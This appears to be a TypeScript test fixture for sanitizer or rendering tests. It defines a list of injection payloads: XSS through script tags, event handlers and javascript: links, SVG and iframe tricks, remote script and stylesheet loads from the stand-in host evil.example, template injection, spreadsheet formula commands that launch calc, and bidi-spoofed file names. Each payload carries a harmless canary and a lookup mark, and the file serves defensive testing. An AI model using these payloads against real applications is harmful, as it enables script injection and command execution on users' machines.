/** Where texts of a hostile document would lead to. */
export const EVIL = 'evil.example';

const RUN = 'globalThis.canary=1';

/**
 * Texts that some program somewhere has taken for more than text: markup, links, formulas, templates, signs that turn or hide the
 * rest. Whatever of them ran would set `canary`; whatever asked for something would ask `evil.example`. Each ends in a mark of its
 * own (`mark00` …) by which it is found again.
 */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">a</a> [b](javascript:${RUN})`,
  `<svg onload=${RUN}><foreignObject><iframe src="https://${EVIL}/f"/></foreignObject><image href="https://${EVIL}/i"/></svg>`,
  `]]></text></title></style></textarea></li></svg><script src=//${EVIL}/s.js></script>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe><object data=//${EVIL}/o></object>`,
  `</style><style>@import url(https://${EVIL}/c.css)</style>`,
  `![i](https://${EVIL}/i.png) <https://${EVIL}/a>`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '\u202Etxt.exe\u2066 a\u200Bb\uFEFFc\u200D',
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} &lt;script&gt;${RUN}&lt;/script&gt; &#60;img&#62;`,
].map((text, index) => `${text} ${markOf(index)}`);

export const MARKS: readonly string[] = PAYLOADS.map((_, index) => markOf(index));

function markOf(index: number): string {
  return `mark${String(index).padStart(2, '0')}`;
}
